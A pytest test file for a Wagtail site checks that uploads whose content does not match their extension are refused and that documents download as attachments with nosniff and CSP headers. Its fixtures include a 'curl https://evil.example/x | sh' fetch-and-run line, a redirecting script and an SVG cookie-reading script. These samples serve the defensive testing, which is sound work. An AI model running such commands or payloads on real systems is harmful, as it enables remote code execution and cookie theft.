"""Uploads are judged by their content, not their name: a document whose content is not the format its
name says is refused with a message and nothing is stored; Wagtail images are opened by Willow, which
refuses a script named like a picture. Documents are always downloaded as attachments."""

import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from reportlab.pdfgen import canvas
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from outreach.core.uploads import document_content_check
from tests.factories.users import UserFactory, in_english, signed_in

pytestmark = pytest.mark.django_db

Document = get_document_model()
Image = get_image_model()

HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/'</script></body></html>"
# The start of a Windows program: "MZ", the DOS stub, the PE header offset.
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 240
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)


def real_pdf() -> bytes:
    out = io.BytesIO()
    pdf = canvas.Canvas(out)
    pdf.drawString(72, 720, "Annual report")
    pdf.save()
    return out.getvalue()


def office_package(main_part: str) -> bytes:
    """The smallest Office Open XML package: content types, relationships, the main part."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        package.writestr(main_part, '<?xml version="1.0"?><document/>')
    return out.getvalue()


def zip_of(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "plain words")
    return out.getvalue()


def opendocument_text() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
    return out.getvalue()


def real_png() -> bytes:
    from PIL import Image as PillowImage

    out = io.BytesIO()
    PillowImage.new("RGB", (4, 4), "navy").save(out, "PNG")
    return out.getvalue()


@pytest.fixture(autouse=True)
def english(settings):
    # Messages are asserted in the source language, whatever the site's default is.
    settings.LANGUAGE_CODE = "en"


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


@pytest.fixture
def editor():
    return signed_in(in_english(UserFactory(username="editor.dana", superuser=True)))


def upload_document(editor, name: str, content: bytes):
    root = Collection.get_first_root_node()
    return editor.post(
        reverse("wagtaildocs:add"),
        {"title": "Annual report", "file": SimpleUploadedFile(name, content), "collection": root.pk},
    )


def stored_files(media: Path) -> list[Path]:
    return [path for path in media.rglob("*") if path.is_file()]


def errors_of(response) -> list[str]:
    return response.context["form"].errors.get("file", [])


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("report.pdf", HTML, "a web page or a script"),
        ("report.pdf", PROGRAM, "a program"),
        ("report.docx", PROGRAM, "a program"),
        ("report.docx", real_pdf(), "a PDF file"),
        ("budget.xlsx", office_package("word/document.xml"), "a DOCX file"),
        ("minutes.odt", office_package("word/document.xml"), "a DOCX file"),
        ("budget.xlsx", zip_of("notes.txt"), "a ZIP archive"),
        ("contacts.csv", HTML, "a web page or a script"),
        ("notes.txt", PROGRAM, "a program"),
    ],
)
def test_a_document_whose_content_is_not_its_format_is_refused_and_nothing_is_saved(
    editor, media, name, content, found
):
    # when an editor uploads it
    response = upload_document(editor, name, content)
    # then the form says what is wrong, and neither a document nor a file is stored
    assert response.status_code == 200
    [error] = errors_of(response)
    assert error.startswith(f"“{name}” is not a real ")
    assert f"its content is {found}. Nothing was saved." in error
    assert Document.objects.count() == 0
    assert stored_files(media) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", real_pdf()),
        ("report.docx", office_package("word/document.xml")),
        ("budget.xlsx", office_package("xl/workbook.xml")),
        ("minutes.odt", opendocument_text()),
        ("contacts.csv", "имя,город\nАйгерим,Алматы\n".encode()),
        ("contacts-excel.csv", "имя;город\r\nАйгерим;Алматы\r\n".encode("cp1251")),
        ("notes.txt", "\ufeffNotes in UTF-16\n".encode("utf-16")),
    ],
)
def test_a_document_that_is_what_its_name_says_is_accepted(editor, media, name, content):
    # when
    response = upload_document(editor, name, content)
    # then
    assert response.status_code == 302
    document = Document.objects.get()
    assert document.file.read() == content
    assert [path.name for path in stored_files(media)] == [name]


def test_the_multiple_upload_refuses_a_mismatch_too(editor, media):
    # when a program named .pdf is dropped on the multiple uploader
    root = Collection.get_first_root_node()
    response = editor.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile("report.pdf", PROGRAM), "collection": root.pk},
    )
    # then
    payload = response.json()
    assert payload["success"] is False
    assert "its content is a program" in payload["error_message"]
    assert Document.objects.count() == 0
    assert stored_files(media) == []


def test_an_image_allowed_as_a_document_must_be_that_image(settings):
    # given an operator who lets PNG pictures be documents
    settings.WAGTAILDOCS_EXTENSIONS = [*settings.WAGTAILDOCS_EXTENSIONS, "png"]
    # then a real PNG passes and a script named .png does not
    document_content_check(SimpleUploadedFile("poster.png", real_png()), allowed_extensions=["png"])
    with pytest.raises(Exception, match="is not a real PNG image file: its content is plain text"):
        document_content_check(SimpleUploadedFile("poster.png", SHELL_SCRIPT), allowed_extensions=["png"])


def test_an_extension_nobody_can_check_is_refused():
    with pytest.raises(Exception, match=r"Files ending in \.rtf cannot be checked"):
        document_content_check(
            SimpleUploadedFile("letter.rtf", b"{\\rtf1 hello}"), allowed_extensions=["rtf"]
        )


def test_a_document_is_downloaded_as_an_attachment_that_is_never_sniffed(editor, media, client):
    # given a PDF uploaded by an editor
    assert upload_document(editor, "report.pdf", real_pdf()).status_code == 302
    document = Document.objects.get()
    # when a reader opens its link
    response = client.get(document.url)
    # then it is downloaded, not shown inside the site, and no browser guesses another type
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert "report.pdf" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'"
    assert b"".join(response.streaming_content) == document.file.open("rb").read()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("poster.jpg", SHELL_SCRIPT, "Upload a valid image."),
        (
            "poster.png",
            SVG_SCRIPT,
            "Not a valid .png image. The extension does not match the file format (svg)",
        ),
        ("poster.png", HTML, "Not a valid .png image. The extension does not match the file format (svg)"),
        ("poster.svg", SVG_SCRIPT, "Not a supported image format."),
    ],
)
def test_an_image_that_is_really_a_script_is_refused_and_nothing_is_saved(
    editor, media, name, content, message
):
    # when an editor uploads it as an image
    root = Collection.get_first_root_node()
    response = editor.post(
        reverse("wagtailimages:add"),
        {"title": "Poster", "file": SimpleUploadedFile(name, content), "collection": root.pk},
    )
    # then Willow cannot open it as the picture its name says
    assert response.status_code == 200
    [error] = response.context["form"].errors["file"]
    assert error.startswith(message)
    assert Image.objects.count() == 0
    assert stored_files(media) == []
